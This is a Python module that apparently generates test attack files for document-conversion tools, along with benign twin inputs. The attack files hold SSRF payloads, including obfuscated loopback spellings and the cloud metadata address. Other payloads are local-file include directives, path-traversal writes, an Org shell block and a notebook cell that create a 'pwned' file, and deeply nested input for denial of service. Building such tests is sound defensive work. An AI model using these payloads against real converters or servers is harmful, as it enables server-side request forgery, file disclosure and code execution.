# ruff: noqa: E501 - a payload reads best in one piece
"""Marked-up text that includes, embeds and fetches (recipe 6)."""

from __future__ import annotations

import json

from makers.attack import ANY, EITHER, Attack, Bait, Twin

_WORDS = "Harmless"


def _html(bait: Bait) -> bytes:
    inner = "".join(
        f'<img src="{link}"><iframe src="{link}"></iframe><object data="{link}"></object><embed src="{link}"><link rel=stylesheet '
        f'href="{link}"><link rel=attachment href="{link}"><a rel=attachment href="{link}">x</a><style>@import "{link}";body{{'
        f"background:url({link})}}@font-face{{font-family:f;src:url({link})}}p{{font-family:f}}li{{list-style-image:url({link})}}"
        f'</style><script src="{link}"></script><video poster="{link}"><source src="{link}"><track src="{link}"></video><audio '
        f'src="{link}"></audio><svg><image href="{link}"/></svg><input type=image src="{link}"><picture><source srcset="{link}">'
        f'</picture><div style="background:url({link})"></div>'
        for link in bait.links
    )
    head = f'<base href="{bait.url}/"><meta http-equiv=refresh content="0;url={bait.url}/m"><link rel=icon href="{bait.url}/f">'
    return (
        f"<!doctype html><html><head>{head}</head><body><p>{_WORDS}</p><img src=rel.png>{inner}<iframe srcdoc='<img "
        f'src="{bait.url}/d">\'></iframe></body></html>'
    ).encode()


def _ssrf(bait: Bait) -> bytes:
    """The same loopback in every spelling that filters have been fooled by."""
    hosts = (
        f"2130706433:{bait.canaries.port}", f"0x7f000001:{bait.canaries.port}", f"0177.0.0.1:{bait.canaries.port}",
        f"127.1:{bait.canaries.port}", f"[::ffff:127.0.0.1]:{bait.canaries.port}", f"0.0.0.0:{bait.canaries.port}",
        f"user@127.0.0.1:{bait.canaries.port}", f"localhost.:{bait.canaries.port}", "169.254.169.254/latest/meta-data",
    )  # fmt: skip
    inner = "".join(
        f'<img src="{scheme}{host}/x">' for host in hosts for scheme in ("http://", "HTTP://", "//", "http:\\\\")
    )
    return f"<!doctype html><p>{_WORDS}</p>{inner}<img src='data:text/html,<img src={bait.url}>'>".encode()


def _md(bait: Bait) -> bytes:
    images = "\n\n".join(f"![x]({link}) <img src='{link}'> <iframe src='{link}'></iframe>" for link in bait.links)
    return (
        f"---\ntitle: T\nbibliography: {bait.file}\ncsl: {bait.file}\ncss: {bait.file}\ntemplate: {bait.file}\n"
        f"header-includes: |\n  \\input{{{bait.file}}}\nabstract: <iframe src='file://{bait.file}'></iframe>\n"
        f"reference-doc: {bait.file}\nlua-filter: {bait.file}\nextract-media: /tmp\n---\n\n{_WORDS}\n\n{images}\n\n"
        f'```{{=latex}}\n\\input{{{bait.file}}}\n```\n\n```{{=typst}}\n#read("{bait.file}")\n```\n\n'
        f"![x](data:image/png;base64,x/../../{bait.pwned_name}%2e%2e)\n\n"
        f"![x](data://image/png;base64,eA==;.lua+%252f..%252f..%252f..%252f{bait.pwned_name})\n"
    ).encode()


def _rst(bait: Bait) -> bytes:
    parts = "\n\n".join(
        f".. include:: {path}\n\n.. csv-table::\n   :file: {path}\n\n.. raw:: html\n   :file: {path}\n\n.. literalinclude:: {path}"
        for path in bait.files
    )
    raw = f".. raw:: html\n   :url: {bait.url}/r\n\n.. image:: {bait.url}/i.png\n\n.. figure:: {bait.file}\n"
    return f"{_WORDS}\n========\n\nText.\n\n{parts}\n\n{raw}\n".encode()


def _adoc(bait: Bait) -> bytes:
    parts = "\n\n".join(f"include::{path}[]\n\nimage::{path}[]\n\ninclude::{bait.url}/a[]" for path in bait.files)
    return f"= {_WORDS}\n:allow-uri-read:\n\n{_WORDS}\n\n{parts}\n\n++++\n<iframe src='{bait.url}/x'></iframe>\n++++\n".encode()


def _org(bait: Bait) -> bytes:
    parts = "\n".join(
        f'#+INCLUDE: "{path}"\n#+INCLUDE: "{path}" src txt\n#+SETUPFILE: {path}\n#+BIBLIOGRAPHY: {path}\n[[file:{path}]]'
        for path in bait.files
    )
    return (
        f"* {_WORDS}\n{parts}\n[[{bait.url}/o.png]]\n#+BEGIN_SRC sh :results output :exports both\ntouch {bait.pwned}\n#+END_SRC\n"
        f"#+BEGIN_EXPORT html\n<iframe src='{bait.url}/x'></iframe>\n#+END_EXPORT\n"
    ).encode()


def _ipynb(bait: Bait) -> bytes:
    html = f"<iframe src='{bait.url}/i'></iframe><img src='file://{bait.file}'>"
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": [f"{_WORDS} ![x]({bait.url}/m.png) {html}"]},
        {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": [f"open('{bait.pwned}','w')"],
         "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": [html]}}]},
        {"cell_type": "markdown", "metadata": {}, "attachments": {f"../../../{bait.pwned_name}": {"image/png": "aGk="}},
         "source": [f"![y](attachment:../../../{bait.pwned_name})"]},
    ]  # fmt: skip
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _wiki(bait: Bait) -> bytes:
    return (
        f"== {_WORDS} ==\n[[File:{bait.file}]] {{{{:{bait.file}}}}} {{{{subst:{bait.file}}}}} [[Image:{bait.url}/i.png]]\n"
        f"<iframe src='{bait.url}/x'></iframe>\n"
    ).encode()


def _textile(bait: Bait) -> bytes:
    return f"h1. {_WORDS}\n\n!{bait.url}/t.png!\n\n!{bait.file}!\n\n<iframe src='{bait.url}/x'></iframe>\n".encode()


def _deep_list(bait: Bait) -> bytes:
    return ("> " * 4000 + "x\n\n" + "[" * 20_000 + "\n\n" + "*_" * 20_000 + "\n").encode()


def _html_twin() -> bytes:
    return (
        b"<!doctype html><style>p{color:red}</style><p style='background:url(data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"
        b"CAAAAAA6fptVAAAACklEQVR4nGOoAgAAggCBd81yTgAAAABJRU5ErkJggg==)'>Harmless</p><a href='https://example.org/'>link</a>"
    )


ATTACKS = (
    Attack("html-links", "a.html", _html, ("pdf", "docx", "epub", "pptx"), ("B3", "B10", "B12", "B13")),
    Attack("html-ssrf", "a.html", _ssrf, ("pdf", "odt"), ("B10", "B12")),
    Attack("md-links", "a.md", _md, ("html", "pdf", "docx"), ("B10", "B11")),
    Attack("rst-includes", "a.rst", _rst, ("html", "pdf"), ("B9",)),
    Attack("adoc-includes", "a.adoc", _adoc, ("html", "pdf"), ("B9",)),
    Attack("org-includes", "a.org", _org, ("html", "pdf"), ("B9",)),
    Attack("ipynb-links", "a.ipynb", _ipynb, ("html", "docx"), ("B10", "B11")),
    Attack("mediawiki-links", "a.mediawiki", _wiki, ("html",), ("B9", "B10"), EITHER, "mediawiki"),
    Attack("textile-links", "a.textile", _textile, ("html",), ("B10",), EITHER, "textile"),
    Attack("md-deep", "a.md", _deep_list, ("html",), ("B31",), ANY),
    Attack("html-deep", "a.html", lambda _: b"<!doctype html>" + b"<div><b>" * 100_000, ("pdf", "md"), ("B31",), ANY),
)  # fmt: skip

TWINS = (
    Twin("html with a style and a link", "a.html", _html_twin, "pdf", "Harmless", ("B12",)),
    Twin("html with a style and a link", "a.html", _html_twin, "docx", "Harmless", ("B10",)),
    Twin("md with a raw table", "a.md", lambda: b"---\ntitle: T\n---\n\nHarmless <b>x</b>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n", "pdf",
         "Harmless", ("B11",)),
    Twin("rst with a table", "a.rst", lambda: b"Harmless\n========\n\n.. csv-table::\n\n   a, b\n   c, d\n", "html", "Harmless",
         ("B9",)),
    Twin("rst that includes what was not sent", "a.rst", lambda: b"Harmless\n========\n\n.. include:: x.rst\n\n.. csv-table::\n   :file: x.csv\n\n"
         b"After\n", "html", "After", ("B9",)),
    Twin("adoc that includes what was not sent", "a.adoc", lambda: b"= T\n\nHarmless\n\ninclude::x.adoc[]\n\nAfter\n", "html", "After", ("B9",)),
    Twin("org that includes what was not sent", "a.org", lambda: b'* T\n#+INCLUDE: "x.org"\n#+BIBLIOGRAPHY: x\nHarmless\n', "pdf", "Harmless", ("B9",)),
    Twin("md that cites", "a.md", lambda: b"---\nbibliography: x.bib\n---\n\nHarmless [@smith, p. 3].\n", "pdf", "Harmless", ("B9",)),
    Twin("tex that cites", "a.tex", lambda: b"\\documentclass{article}\\begin{document}Harmless \\cite{a}\\bibliography{x}\\end{document}", "pdf",
         "Harmless", ("B9",)),
)  # fmt: skip
